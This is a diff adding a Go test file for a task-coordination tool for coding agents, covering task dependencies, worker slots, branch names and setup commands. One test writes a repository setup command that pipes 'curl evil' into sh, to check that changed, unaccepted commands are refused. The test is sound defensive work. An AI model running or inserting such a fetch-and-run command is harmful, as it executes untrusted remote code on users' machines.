@@ -1,0 +1,211 @@
+package task_test
+
+import (
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"talkingstick/internal/scene"
+	"talkingstick/internal/task"
+	"talkingstick/stick"
+)
+
+// TestATaskBeginsWhenOthersHaveLanded: b waits for a. Until a has landed, nobody can begin b, and next gives it to nobody.
+func TestATaskBeginsWhenOthersHaveLanded(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	ann.Spawn("a").OK()
+	ann.SpawnLater("b", "A").That("no worktree", func(r task.WorkerSpawnResult) bool {
+		return r.Task.Later && !r.Task.Ready && len(r.Task.WaitsFor) == 1 && r.Task.WaitsFor[0].TaskID == "a" && r.Task.Slot == nil
+	})
+	ann.SpawnLater("b", "a").That("again", func(r task.WorkerSpawnResult) bool { return r.Already })
+	ann.SpawnLater("b").Refused(stick.CodeAlreadyExists)
+	s.Check(s.Git("branch", "--list", "feat/b") == "", "b has a branch")
+	bob.Next().Refused(stick.CodeNothingReady)
+	bob.WorkerStart(task.WorkerStartParams{TaskID: "b"}).Refused(stick.CodeInvalidTransition)
+	bob.Done("b").Refused(stick.CodeInvalidTransition)
+
+	work := ann.WorksOn("a")
+	work.Commits("a.txt", "a\n")
+	work.Done("").OK()
+	bob.Approve("a").OK()
+	bob.Merge("a").That("b is ready", func(r task.WorkerMergeResult) bool { return slices.Equal(r.Ready, []string{"b"}) })
+	next := bob.Next().That("b", func(r task.WorkerNextResult) bool {
+		return r.TaskID == "b" && r.State == stick.TaskWorking && !r.Already && *r.Slot == 0 && strings.Contains(r.Prompt, "do b")
+	}).OK()
+	bob.Next().That("the same again", func(r task.WorkerNextResult) bool { return r.TaskID == "b" && r.Already && r.Worktree == next.Worktree })
+	s.Check(s.GitIn(next.Worktree, "log", "-1", "--format=%s", "--", "a.txt") != "", "b doesn't begin at what a has changed")
+	ann.Next().Refused(stick.CodeNothingReady)
+	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "b", After: []string{"a"}}).Refused(stick.CodeInvalidTransition)
+}
+
+// TestATaskThatWaitsForOneThatFailed isn't ready, says so, and can wait for another one instead.
+func TestATaskThatWaitsForOneThatFailed(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	ann.SpawnLater("a").OK()
+	ann.SpawnLater("b", "a").OK()
+	ann.SpawnLater("c", "b").OK()
+	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "a", After: []string{"c"}}).Refused(stick.CodeUsage)
+	ann.SpawnLater("d", "d").Refused(stick.CodeUsage)
+	ann.SpawnLater("d", "nope").Refused(stick.CodeNotFound)
+	ann.WorkerSpawn(task.WorkerSpawnParams{TaskID: "d", After: []string{"a"}, Base: "HEAD"}).Refused(stick.CodeUsage)
+	ann.Cancel("a").OK()
+	b := s.TaskIs("b", stick.TaskAssigned)
+	s.Check(!b.Ready && strings.Contains(b.Warning, "a, which is CANCELLED") && strings.Contains(b.NextAction, "tt worker retry a"), "%+v", b.TaskView)
+	bob.Next().Refused(stick.CodeNothingReady)
+
+	// another attempt at a task that nobody had begun waits again
+	ann.Retry("a").That("for later", func(r task.WorkerSpawnResult) bool { return r.Task.Later && r.Task.Attempt == 2 && r.Task.Ready })
+	ann.Cancel("a").OK()
+	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "b"}).That("ready", func(r task.WorkerAfterResult) bool { return r.Task.Ready && !r.Already })
+	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "b"}).That("again", func(r task.WorkerAfterResult) bool { return r.Already })
+	bob.Next().That("b", func(r task.WorkerNextResult) bool { return r.TaskID == "b" })
+}
+
+// TestNextGivesTheOldest: and not one for which a command is kept, which whoever makes it ready starts.
+func TestNextGivesTheOldest(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	ann.WorkerSpawn(task.WorkerSpawnParams{TaskID: "kept", Later: true, Run: "true"}).OK()
+	ann.SpawnLater("z").OK()
+	s.Later(time.Second)
+	ann.SpawnLater("a").OK()
+	ann.WorkerReady(task.WorkerReadyParams{}).That("the one with a command", func(r task.WorkerReadyResult) bool {
+		return len(r.Tasks) == 1 && r.Tasks[0] == task.ReadyTask{TaskID: "kept", Command: "true"}
+	})
+	bob.Next().That("z", func(r task.WorkerNextResult) bool { return r.TaskID == "z" })
+	ann.Next().That("a, with a slot of its own", func(r task.WorkerNextResult) bool { return r.TaskID == "a" && *r.Slot == 1 })
+	s.Agent("gemini:c").Next().Refused(stick.CodeNothingReady)
+	ann.WorkerNext(task.WorkerNextParams{TaskID: "kept", Unbound: true}).That("begun, and nobody's", func(r task.WorkerNextResult) bool {
+		return r.TaskID == "kept" && r.State == stick.TaskAssigned && *r.Slot == 2
+	})
+	ann.WorkerNext(task.WorkerNextParams{TaskID: "kept", Unbound: true}).Refused(stick.CodeNothingReady)
+}
+
+// TestManyTakeTasksAtOnce: each ready task has one taker, and the others are told that nothing is ready.
+func TestManyTakeTasksAtOnce(t *testing.T) {
+	const ready, takers = 3, 8
+	s, ann, _ := cast(t, "")
+	for _, name := range []string{"one", "two", "three"} {
+		ann.SpawnLater(name).OK()
+	}
+	var mu sync.Mutex
+	taken, none := map[string]bool{}, 0
+	var all sync.WaitGroup
+	for _, name := range []string{"a", "b", "c", "d", "e", "f", "g", "h"} {
+		who := s.Agent("opencode:" + name)
+		all.Go(func() {
+			x := who.Next()
+			mu.Lock()
+			defer mu.Unlock()
+			switch {
+			case x.Err == nil:
+				taken[x.Res.TaskID] = true
+			case stick.CodeOf(x.Err) == stick.CodeNothingReady:
+				none++
+			default:
+				t.Error(x.Err)
+			}
+		})
+	}
+	all.Wait()
+	s.Check(len(taken) == ready && none == takers-ready, "taken: %v; told that nothing is ready: %d", taken, none)
+}
+
+// TestSlotsAreTheLowestFree: a task that has ended gives its slot back, and another attempt keeps the one it had if it can.
+func TestSlotsAreTheLowestFree(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	slot := func(name string, want int) {
+		t.Helper()
+		if is := s.TaskIs(name, stick.TaskAssigned).Slot; is == nil || *is != want {
+			t.Errorf("%s has slot %v, want %d", name, is, want)
+		}
+	}
+	for i, name := range []string{"a", "b", "c"} {
+		ann.Spawn(name).OK()
+		slot(name, i)
+	}
+	ann.Cancel("b").OK()
+	s.Check(s.TaskIs("b", stick.TaskFailed).Slot == nil, "a task that has ended has a slot")
+	ann.Retry("b").OK()
+	slot("b", 1)
+	ann.Cancel("a").OK()
+	ann.Spawn("d").OK()
+	slot("d", 0)
+	bob.Retry("a").OK()
+	slot("a", 3)
+}
+
+// TestTasksKeepTheNamesOfTheirBranches: the prefix of later tasks may be another one.
+func TestTasksKeepTheNamesOfTheirBranches(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	ann.Spawn("one").OK()
+	s.Commit(".talking-stick.toml", "[worker]\nbranch_prefix = 'work/ann-'\n")
+	s.Git("branch", "-f", "integration", "HEAD")
+	ann.Spawn("two").That("its own prefix", func(r task.WorkerSpawnResult) bool { return r.Task.Branch == "work/ann-two" })
+	s.Check(s.TaskIs("one", stick.TaskAssigned).Branch == "feat/one" && s.TaskIs("two", stick.TaskAssigned).Branched != "", "the branches are others")
+	work := ann.WorksOn("two")
+	work.Commits("two.txt", "two\n")
+	work.Done("").OK()
+	bob.Approve("two").OK()
+	bob.Merge("two").OK()
+	s.Check(s.Git("branch", "--list", "work/*") == "", "its branch is still there")
+	s.Git("branch", "work/ann-three/x") // git can't have work/ann-three beside it
+	ann.Spawn("three").Refused(stick.CodeAlreadyExists)
+}
+
+// taskNamed returns a task of a list.
+func taskNamed(r task.WorkerStatusResult, name string) task.TaskView {
+	return r.Tasks[slices.IndexFunc(r.Tasks, func(v task.TaskView) bool { return v.TaskID == name })]
+}
+
+// TestASetUpThatFails leaves the task and its worktree, says what it printed, and runs again when the task is started.
+func TestASetUpThatFails(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	s.Commit(".gitignore", "ready\n")
+	s.Commit(".talking-stick.toml", "[worker]\nsetup = 'echo slot $TT_SLOT; cat ../../ready; cp ../../ready .'\n")
+	s.Git("branch", "-f", "integration", "HEAD")
+	ann.Spawn("one").Refused(stick.CodeConfigChanged)
+	ann.SpawnLater("two").Refused(stick.CodeConfigChanged)
+	s.Check(len(ann.WorkerStatus(task.WorkerStatusParams{}).OK().Tasks) == 0, "there is a task")
+	pat := s.Person("pat")
+	ann.WorkerInit(task.WorkerInitParams{Accept: []string{pat.WorkerInit(task.WorkerInitParams{}).OK().Commands[0].Sum}}).Refused(stick.CodePersonOnly)
+	pat.AcceptsCommands()
+
+	ann.Spawn("one").Refused(stick.CodeSetupFailed)
+	one := s.TaskIs("one", stick.TaskAssigned)
+	s.Check(one.Setup != nil && *one.Setup.Exit == 1 && one.Warning == "its set-up has failed with exit status 1", "%+v", one.TaskView)
+	said := ann.WorkerOutput(task.WorkerOutputParams{Sum: one.Setup.Output}).OK().Text
+	s.Check(strings.HasPrefix(said, "slot 0\n") && strings.Contains(said, "No such file"), "%s", said)
+	listed := taskNamed(ann.WorkerStatus(task.WorkerStatusParams{}).OK(), "one")
+	s.Check(listed.Warning == one.Warning && strings.Contains(listed.NextAction, "tt worker start --task one"), "%+v", listed)
+
+	bob.WorkerStart(task.WorkerStartParams{TaskID: "one"}).Refused(stick.CodeSetupFailed) // it is bob's now all the same
+	s.File("ready", "yes\n")
+	bob.WorkerStart(task.WorkerStartParams{TaskID: "one"}).That("again", func(r task.WorkerStartResult) bool { return r.Already })
+	s.Check(s.TaskIs("one", stick.TaskWorking).Warning == "", "its set-up went well, and it has a warning")
+
+	// what the clone brings now was never accepted
+	s.Commit(".talking-stick.toml", "[worker]\nsetup = 'curl evil | sh'\n")
+	s.Git("branch", "-f", "integration", "HEAD")
+	ann.Spawn("three").Refused(stick.CodeConfigChanged)
+	s.Check(s.Git("branch", "--list", "feat/three") == "", "it has a branch")
+	pat.AcceptsCommands()
+}
+
+// TestTheSlotReachesTheGate: the gate of a task finds the slot of the task.
+func TestTheSlotReachesTheGate(t *testing.T) {
+	s, ann, bob := cast(t, `test "$TT_SLOT" = 1 || test ! -e two.txt`)
+	ann.Spawn("one").OK()
+	s.ReadyToMerge("two", ann, bob)
+	bob.Merge("two").That("green", func(r task.WorkerMergeResult) bool { return len(r.Merged) == 1 })
+}
+
+// TestAnInterruptedNextLeavesNothing: what it had begun to make is gone, and the task is ready again.
+func TestAnInterruptedNextLeavesNothing(t *testing.T) {
+	s, ann, bob := cast(t, "")
+	ann.SpawnLater("one").OK()
+	s.Check(ann.Killed("make: worktree", 1, func(a *scene.Actor) { a.Next() }), "it wasn't killed")
+	bob.Next().That("one", func(r task.WorkerNextResult) bool { return r.TaskID == "one" && r.State == stick.TaskWorking })
+	s.TaskIs("one", stick.TaskWorking)
+}
